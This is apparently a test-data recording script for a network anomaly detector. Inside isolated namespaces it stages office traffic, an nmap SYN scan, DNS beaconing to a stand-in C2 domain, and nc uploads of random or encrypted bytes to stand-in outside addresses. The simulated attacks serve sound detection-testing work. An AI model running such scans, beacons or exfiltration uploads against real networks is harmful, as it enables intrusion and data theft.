#!/usr/bin/env bash
# Records the captures of testdata/detect/ for per-host baselines, DNS
# beaconing and high-entropy payloads on cleartext ports, on the LAN of
# record-detect-lib.sh (network namespaces this script creates; no packet
# leaves them; nothing is added to the root namespace):
#
#   baseline-day1     240 s of an office: .10 and .30 browse outside sites
#                     (a lookup, then a page of 2-6 objects, pauses of 2-15 s),
#                     .31 holds an interactive ssh session to .20, .41 polls
#                     NTP every 2 s, .43 looks names up every 0-4 s
#   baseline-day2     120 s more of the same office
#   baseline-day3     120 s more of the same office (true negative, scored
#                     against a baseline learned from days 1 and 2)
#   baseline-anomaly  120 s of the same office, in which .10 also runs
#                     `nmap -sS -p 1-500` against 203.0.113.50 (at ~30 s)
#                     and uploads 3 MB to it with nc (at ~75 s)
#   beacon-dns        90 s: .30 asks the home resolver (dnsmasq on .20) for
#                     a TXT record of a new name under sync.c2-example.com
#                     every 2 s ± 20 % (one beat in eight missed); beside it
#                     .43 looks names up every 0-4 s and .31 looks one name
#                     up every 1-12 s (irregular: must not be beacons)
#   sni-browsing      120 s: .30 fetches pages of 1-4 objects from
#                     https://portal.example.net:8443 (curl --resolve to one
#                     of 203.0.113.60/61 each time) at pauses of 1-15 s
#   entropy-cleartext 100 KB of `openssl rand` sent with nc from .10 to
#                     203.0.113.99:80, and a file encrypted by `openssl enc`
#                     to 203.0.113.99:25 (an outside address of .42's namespace)
#   entropy-benign    curl from .30 to nginx on .20:80: plain pages, a
#                     gzip-compressed text (`--compressed`) and 200 KB of
#                     random bytes as the body of a download
#
# Snap length 128 bytes, 400 for the entropy captures (their first payload
# bytes are read). Needs root, iproute2, ethtool, tcpdump, zstd, nmap,
# openssh-server/-client, nginx, dnsmasq-base, chrony, curl, dnsutils,
# netcat-openbsd, openssl.
# Usage: sudo scripts/record-baseline.sh [OUT_DIR] (default testdata/detect);
# ONLY="beacon-dns …" records just those. Labels: OUT_DIR/labels.toml.
set -euo pipefail
DET_P=${DET_P:-nbase}
# shellcheck source-path=SCRIPTDIR source=record-detect-lib.sh
. "$(dirname "$0")/record-detect-lib.sh"

det_need ip ethtool tcpdump zstd nmap sshd ssh nginx dnsmasq chronyd curl dig nc openssl

OUT=$(realpath -m "${1:-testdata/detect}")
S=$DET_NET.20
X=$DET_X
# $WORK, the LAN, SSH keys and SSH_OPTS (record-detect-lib.sh)
det_start

# --- services -----------------------------------------------------------------
cat >"$WORK/sshd.conf" <<EOF
ListenAddress $S
Port 22
HostKey $WORK/ssh_host_ed25519_key
PidFile $WORK/sshd.pid
AuthorizedKeysFile $WORK/authorized_keys
PermitRootLogin prohibit-password
UsePAM no
StrictModes no
EOF
on s /usr/sbin/sshd -f "$WORK/sshd.conf"

mkdir -p "$WORK/www"
echo "<html><head><title>intranet</title></head><body>hello</body></html>" >"$WORK/www/index.html"
for i in $(seq 1 8); do head -c $((2000 * i)) /dev/zero | tr '\0' 'a' >"$WORK/www/res$i.css"; done
cp /usr/share/common-licenses/GPL-3 "$WORK/www/license.txt"
head -c 200000 /dev/urandom >"$WORK/www/firmware.bin"
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=intranet.lab" \
    -keyout "$WORK/key.pem" -out "$WORK/cert.pem" 2>/dev/null
nginx_on() { # HOST LISTEN
    cat >"$WORK/nginx-$1.conf" <<EOF
pid $WORK/nginx-$1.pid;
error_log $WORK/nginx-$1-error.log;
events {}
http {
    access_log off;
    gzip on;
    gzip_types text/plain text/css;
    server {
        listen $2:80;
        root $WORK/www;
    }
    server {
        listen $2:8443 ssl;
        ssl_certificate $WORK/cert.pem;
        ssl_certificate_key $WORK/key.pem;
        root $WORK/www;
    }
}
EOF
    on "$1" nginx -c "$WORK/nginx-$1.conf"
}
nginx_on s "$S"
nginx_on x 0.0.0.0
for i in $(seq 60 89); do on x ip addr replace "203.0.113.$i/24" dev eth0; done

cat >"$WORK/dnsmasq.conf" <<EOF
no-resolv
no-hosts
listen-address=$S
bind-interfaces
address=/intranet.lab/$S
address=/updates.example.net/$X
address=/c2-example.com/$X
pid-file=$WORK/dnsmasq.pid
EOF
on s dnsmasq --conf-file="$WORK/dnsmasq.conf"

cat >"$WORK/chrony-s.conf" <<EOF
bindaddress $S
allow 10.250.0.0/24
local stratum 8
cmdport 0
pidfile $WORK/chrony-s.pid
EOF
on s chronyd -x -f "$WORK/chrony-s.conf"
sleep 1

# --- recording ----------------------------------------------------------------
mkdir -p "$OUT"
# rec NAME FUNCTION: see record-detect-lib.sh.
warm() {
    local pair h
    for pair in $DET_HOSTS; do
        h=${pair%%:*}
        [ "$h" = gw ] || on "$h" ping -c 1 -W 1 "$S" >/dev/null 2>&1 || true
    done
}

# pause LOW HIGH: sleep a uniform random time in [LOW, HIGH] seconds.
pause() { sleep "$(awk -v r=$RANDOM -v a="$1" -v b="$2" 'BEGIN { printf "%.2f", a + (b - a) * r / 32767 }')"; }

# browse HOST SECONDS: a person browsing outside sites.
browse() {
    local h=$1 end=$((SECONDS + $2)) site n k args
    while [ $SECONDS -lt "$end" ]; do
        site=203.0.113.$((60 + RANDOM % 30))
        on "$h" dig +short @"$S" updates.example.net >/dev/null
        n=$((2 + RANDOM % 5))
        args=(-o /dev/null "http://$site/")
        for k in $(seq "$n"); do args+=(-o /dev/null "http://$site/res$k.css"); done
        on "$h" curl -s --parallel "${args[@]}"
        if [ $((RANDOM % 3)) -eq 0 ]; then on "$h" curl -sk -o /dev/null "https://$site:8443/"; fi
        pause 2 15
    done
}

# lookups HOST SECONDS LOW HIGH: name lookups at irregular intervals.
lookups() {
    local h=$1 end=$((SECONDS + $2))
    while [ $SECONDS -lt "$end" ]; do
        on "$h" dig +short @"$S" "host$RANDOM.intranet.lab" >/dev/null
        pause "$3" "$4"
    done
}

# office SECONDS: the everyday traffic of every scenario of this script.
office() {
    local secs=$1
    printf 'server %s minpoll 1 maxpoll 1 iburst\ncmdport 0\npidfile %s\n' \
        "$S" "$WORK/chrony-v1.pid" >"$WORK/chrony-v1.conf"
    on v1 timeout "$secs" chronyd -x -d -f "$WORK/chrony-v1.conf" >/dev/null 2>&1 &
    on d timeout "$secs" ssh "${SSH_OPTS[@]}" "root@$S" \
        "for i in \$(seq $((secs / 5))); do uptime; ps aux | head -20; sleep 5; done" >/dev/null &
    lookups v3 "$secs" 0 4 &
    browse a "$secs" &
    browse c "$secs" &
}

day1() { office 240 && wait; }
day2() { office 120 && wait; }
anomaly() {
    office 120
    on x timeout 115 nc -l -p 8080 >/dev/null &
    sleep 30
    on a nmap -n -Pn -sS -T4 -p 1-500 --max-retries 0 "$X" >/dev/null
    sleep 45
    head -c 3000000 /dev/urandom | on a timeout 30 nc -N "$X" 8080
    wait
}

# DNS beacon: a new name under sync.c2-example.com every 2 s ± 20 %.
beacon_dns() {
    local end=$((SECONDS + 90))
    lookups v3 90 0 4 &
    (
        e=$((SECONDS + 90))
        while [ $SECONDS -lt $e ]; do
            on d dig +short @"$S" updates.example.net >/dev/null
            pause 1 12
        done
    ) &
    while [ $SECONDS -lt $end ]; do
        [ $((RANDOM % 8)) -eq 0 ] ||
            on c dig +short @"$S" "$(openssl rand -hex 6).sync.c2-example.com" TXT >/dev/null
        pause 1.6 2.4
    done
    wait
}

# Browsing one HTTPS name served from two addresses (a CDN): pages of 1-4
# objects at pauses of 1-15 s; SNI portal.example.net (true negative for
# beacons by server name).
sni_browsing() {
    local end=$((SECONDS + 120)) addr n k args
    while [ $SECONDS -lt $end ]; do
        addr=203.0.113.$((60 + RANDOM % 2))
        n=$((1 + RANDOM % 4))
        args=(-o /dev/null "https://portal.example.net:8443/")
        for k in $(seq "$n"); do args+=(-o /dev/null "https://portal.example.net:8443/res$k.css"); done
        on c curl -sk --parallel --resolve "portal.example.net:8443:$addr" "${args[@]}"
        pause 1 15
    done
}

# the receiver is outside: 203.0.113.99, an address of namespace v2 (whose
# nginx-free ports 80 and 25 nc can take)
entropy_cleartext() {
    local r=203.0.113.99
    on v2 ip addr replace "$r/24" dev eth0
    on v2 timeout 20 nc -l -s "$r" -p 80 >/dev/null &
    on v2 timeout 20 nc -l -s "$r" -p 25 >/dev/null &
    sleep 0.5
    openssl rand 100000 | on a timeout 10 nc -N "$r" 80
    openssl enc -aes-256-cbc -pbkdf2 -pass pass:lab -in /usr/share/common-licenses/GPL-3 |
        on a timeout 10 nc -N "$r" 25
    wait
}

entropy_benign() {
    on c curl -s -o /dev/null "http://$S/"
    on c curl -s --compressed -o /dev/null "http://$S/license.txt"
    on c curl -s -o /dev/null "http://$S/firmware.bin"
    on c curl -s --compressed -o /dev/null "http://$S/res8.css"
    on c curl -s -o /dev/null -X POST --data-binary @/usr/share/common-licenses/GPL-2 "http://$S/"
}

warm
rec baseline-day1 day1
rec baseline-day2 day2
rec baseline-day3 day2
rec baseline-anomaly anomaly
rec beacon-dns beacon_dns
# the server name is read from ClientHello events: whole hellos (~600 bytes)
SNAPLEN=700 rec sni-browsing sni_browsing
SNAPLEN=400 rec entropy-cleartext entropy_cleartext
SNAPLEN=400 rec entropy-benign entropy_benign
